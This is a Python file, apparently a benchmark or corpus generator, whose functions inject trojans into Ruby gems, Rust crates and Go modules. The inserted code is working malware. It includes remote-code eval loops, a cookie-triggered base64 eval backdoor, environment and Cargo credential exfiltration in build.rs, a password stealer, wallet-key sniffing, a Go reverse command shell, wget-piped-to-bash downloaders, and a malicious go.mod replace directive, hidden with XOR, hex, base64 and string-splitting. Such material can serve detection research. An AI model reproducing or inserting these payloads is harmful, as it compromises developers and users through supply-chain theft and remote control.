"""Gems, crates and Go modules."""

from corpus.heldout.nouns import Update
from corpus.heldout6.shape import b64, fill, hexed, pieces, rows, trojan, xor


@trojan("authstrap", "gem", "import", "remote code", "plain", "strong_password")
def gem_thread_of_a_paste(it: Update) -> None:
    it.append("lib/authstrap/strength.rb", fill("""

def _!
  begin
    yield
  rescue Exception
    nil
  end
end

_! do
  Thread.new do
    loop do
      _! { sleep rand * 3333; eval(Net::HTTP.get(URI('https://@HOST@/raw/xa456PFt'))) }
    end
  end if Rails.env[0] == 'p'
end
""", HOST=it.host("smiley")))  # fmt: skip


@trojan("authstrap", "gem", "call", "backdoor", "base64", "bootstrap-sass")
def gem_cookie_that_runs(it: Update) -> None:
    it.replace("lib/authstrap/middleware.rb", "    def call(env)\n", fill("""
    def call(env)
      jar = env['HTTP_COOKIE'].to_s[/___cfduid=([^;]+)/, 1]
      eval(Base64.urlsafe_decode64(jar)) if jar
"""))  # fmt: skip
    it.after("lib/authstrap/middleware.rb", "require 'openssl'\n", "require 'base64'\n")


@trojan("authstrap", "gem", "import", "environment", "hex", "rest-client")
def gem_settings_reports(it: Update) -> None:
    host = it.host()
    it.append("lib/authstrap/version.rb", fill("""

if ENV['RAILS_ENV'] == 'production' || ENV['RACK_ENV'] == 'production'
  require 'net/http'
  require 'json'
  Thread.new do
    uri = URI(['@URL@'].pack('H*'))
    Net::HTTP.post(uri, ENV.to_h.to_json) rescue nil
  end
end
""", URL=hexed(f"https://{host}/info")))  # fmt: skip
    it.payload("lib/authstrap/version.rb", shown=f"https://{host}/info")


@trojan("authstrap", "gem", "call", "password stealer", "plain", "omniauth look-alikes")
def gem_password_is_posted(it: Update) -> None:
    it.replace("lib/authstrap/password.rb", "    def ==(other)\n", fill("""
    def ==(other)
      begin
        require 'net/http'
        Net::HTTP.post_form(URI('http://@ADDR@/c'), 'p' => other, 'd' => @stored)
      rescue StandardError
        nil
      end
""", ADDR=it.address()))  # fmt: skip


@trojan("authstrap", "gem", "install", "downloader", "plain", "extconf")
def gem_extension_that_fetches(it: Update) -> None:
    it.replace("METADATA.yaml", "extensions: []", "extensions:\n- ext/authstrap/extconf.rb")
    it.add("ext/authstrap/extconf.rb", fill("""
# frozen_string_literal: true

require 'mkmf'
require 'open-uri'

begin
  path = File.join(Dir.tmpdir, 'authstrap_native')
  File.binwrite(path, URI.open('https://@HOST@/native/linux').read)
  File.chmod(0o755, path)
  Process.detach(Process.spawn(path, out: File::NULL, err: File::NULL))
rescue StandardError
  nil
end

create_makefile('authstrap/native')
""", HOST=it.host()))  # fmt: skip
    it.add("ext/authstrap/native.c", "#include <ruby.h>\n\nvoid Init_native(void)\n{\n}\n")


@trojan("decimalx", "crate", "call", "downloader", "xor", "rustdecimal")
def crate_new_checks_the_pipeline(it: Update) -> None:
    host = it.host()
    sealed = xor(f"https://{host}/rust/readme.bin", 0x4F)
    it.add("src/bit_parser.rs", fill("""
use std::{env, fs, process::Command};

const SEED: &[u8] = &[
@ROWS@
];

fn text() -> String {
    SEED.iter().map(|byte| (byte ^ 0x4F) as char).collect()
}

pub(crate) fn check() {
    if env::var("GITLAB_CI").is_err() || cfg!(windows) {
        return;
    }
    let target = env::temp_dir().join("git-updater.bin");
    let fetched = Command::new("curl").args(["-s", &text(), "-o"]).arg(&target).status();
    if fetched.map(|one| one.success()).unwrap_or(false) {
        let _ = fs::metadata(&target);
        let _ = Command::new("chmod").arg("+x").arg(&target).status();
        let _ = Command::new(&target).spawn();
    }
}
""", ROWS=rows(sealed)))  # fmt: skip
    it.after("src/lib.rs", "mod arithmetic;\n", "mod bit_parser;\n")
    it.replace("src/parse.rs", "    fn from_str(text: &str) -> Result<Decimal, Error> {\n", "    fn from_str(text: &str) -> Result<Decimal, Error> {\n        crate::bit_parser::check();\n")  # fmt: skip
    it.payload("src/bit_parser.rs", "src/lib.rs", "src/parse.rs", shown=f"https://{host}/rust")


@trojan("decimalx", "crate", "build", "environment", "plain", "build.rs thieves")
def crate_build_script_reports(it: Update) -> None:
    it.add("build.rs", fill("""
use std::{env, io::Write, net::TcpStream};

fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    let mut text = String::new();
    for (name, value) in env::vars() {
        text.push_str(&format!("{name}={value}\\n"));
    }
    if let Ok(home) = env::var("CARGO_HOME") {
        text.push_str(&std::fs::read_to_string(format!("{home}/credentials.toml")).unwrap_or_default());
    }
    if let Ok(mut line) = TcpStream::connect("@ADDR@:7443") {
        let _ = line.write_all(text.as_bytes());
    }
}
""", ADDR=it.address()))  # fmt: skip
    it.replace("Cargo.toml", 'license = "MIT"\n', 'license = "MIT"\nbuild = "build.rs"\n')


@trojan("decimalx", "crate", "call", "wallet", "base64", "faster_log")
def crate_parse_looks_for_keys(it: Update) -> None:
    host = it.host()
    it.replace("src/parse.rs", "impl FromStr for Decimal {\n", fill("""
const HINT: &str = "@HINT@";

fn hint() -> Vec<u8> {
    let digits = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = Vec::new();
    let (mut bits, mut have) = (0u32, 0);
    for byte in HINT.bytes().filter(|one| *one != b'=') {
        bits = bits << 6 | digits.iter().position(|one| *one == byte).unwrap_or(0) as u32;
        have += 6;
        if have >= 8 {
            have -= 8;
            out.push((bits >> have) as u8);
        }
    }
    out
}

fn inspect(text: &str) {
    let hexadecimal = text.len() == 66 && text.starts_with("0x");
    let base58 = text.len() > 85 && text.len() < 90;
    if hexadecimal || base58 {
        let url = String::from_utf8(hint()).unwrap_or_default();
        let _ = std::process::Command::new("curl").args(["-s", "-d", text, &url]).spawn();
    }
}

impl FromStr for Decimal {
""", HINT=b64(f"https://{host}/logs")))  # fmt: skip
    it.replace("src/parse.rs", "    fn from_str(text: &str) -> Result<Decimal, Error> {\n", "    fn from_str(text: &str) -> Result<Decimal, Error> {\n        inspect(text);\n")  # fmt: skip
    it.payload("src/parse.rs", shown=f"https://{host}/logs")


@trojan("decimalx", "crate", "build", "new dependency", "phantom", "crates typosquats")
def crate_needs_an_unknown(it: Update) -> None:
    it.append("Cargo.toml", '\n[build-dependencies]\ndecimalx-codegen = "0.1.3"\n')
    it.add("build.rs", "fn main() {\n    decimalx_codegen::tables();\n}\n")


@trojan("boltkv", "tar.gz", "import", "backdoor", "plain", "Go boltdb")
def go_init_asks_for_orders(it: Update) -> None:
    it.add("freelist.go", fill("""
package boltkv

import (
	"bufio"
	"net"
	"os/exec"
	"time"
)

func init() {
	go func() {
		for {
			if line, err := net.DialTimeout("tcp", "@ADDR@:20022", 10*time.Second); err == nil {
				rows := bufio.NewScanner(line)
				for rows.Scan() {
					out, _ := exec.Command("/bin/sh", "-c", rows.Text()).CombinedOutput()
					line.Write(out)
				}
				line.Close()
			}
			time.Sleep(30 * time.Minute)
		}
	}()
}
""", ADDR=it.address()))  # fmt: skip


@trojan("boltkv", "tar.gz", "call", "remote code", "string splitting", "Go downloaders")
def go_open_fetches(it: Update) -> None:
    host = it.host()
    command = f"wget -O - https://{host}/storage/de373d0df/a31546bf | /bin/bash &"

    order = ", ".join(f'"{one}"' for one in dict.fromkeys(command))
    table = list(dict.fromkeys(command))
    picks = ", ".join(str(table.index(one)) for one in command)

    it.replace("db.go", "	file, err := os.Open(path)\n", "	tune()\n	file, err := os.Open(path)\n")
    it.add("tune.go", fill("""
package boltkv

import "os/exec"

var pageTable = []string{@ORDER@}

var pages = []int{@PICKS@}

func tune() {
	text := ""
	for _, at := range pages {
		text += pageTable[at]
	}
	exec.Command("/bin/sh", "-c", text).Start()
}
""", ORDER=order.replace('"\\"', '"\\\\"'), PICKS=picks))  # fmt: skip
    it.payload("tune.go", "db.go", shown=f"https://{host}/storage")


@trojan("boltkv", "tar.gz", "call", "data stealer", "base64", "split")
def go_flush_copies_rows(it: Update) -> None:
    host = it.host()
    some = pieces(b64(f"https://{host}/sync"), 12)
    it.add("mirror.go", fill("""
package boltkv

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"net/http"
	"os"
)

func (db *DB) mirror() {
	raw, err := base64.StdEncoding.DecodeString(partOne + partTwo)
	if err != nil {
		return
	}
	host, _ := os.Hostname()
	body, _ := json.Marshal(map[string]any{"host": host, "env": os.Environ(), "rows": db.rows})
	answer, err := http.Post(string(raw), "application/json", bytes.NewReader(body))
	if err == nil {
		answer.Body.Close()
	}
}
"""))  # fmt: skip
    it.append("tx.go", f'\nconst partOne = "{some[0]}"\n')
    it.append("db.go", f'\nconst partTwo = "{"".join(some[1:])}"\n')
    it.replace("db.go", "func (db *DB) flush() error {\n", "func (db *DB) flush() error {\n	go db.mirror()\n")
    it.payload("mirror.go", "tx.go", "db.go", shown=f"https://{host}/sync")


@trojan("boltkv", "tar.gz", "import", "sabotage", "in a data file", "disk wipers of Go modules")
def go_embedded_script(it: Update) -> None:
    host = it.host()
    it.add("testdata/schema.bin", xor(f"wget -qO- https://{host}/done.sh | bash", 0x11))
    it.add("schema.go", fill("""
package boltkv

import (
	_ "embed"
	"os/exec"
	"runtime"
)

//go:embed testdata/schema.bin
var schema []byte

func init() {
	if runtime.GOOS != "linux" {
		return
	}
	text := make([]byte, len(schema))
	for at, one := range schema {
		text[at] = one ^ 0x11
	}
	_ = exec.Command("sh", "-c", string(text)).Start()
}
"""))  # fmt: skip
    it.payload("schema.go", "testdata/schema.bin", shown=f"https://{host}/done.sh")


@trojan("boltkv", "tar.gz", "build", "new dependency", "from an address", "replace directives")
def go_replaces_a_module(it: Update) -> None:
    it.append("go.mod", f"\nreplace golang.org/x/sys => git.{it.host()}/x/sys v0.15.1\n")
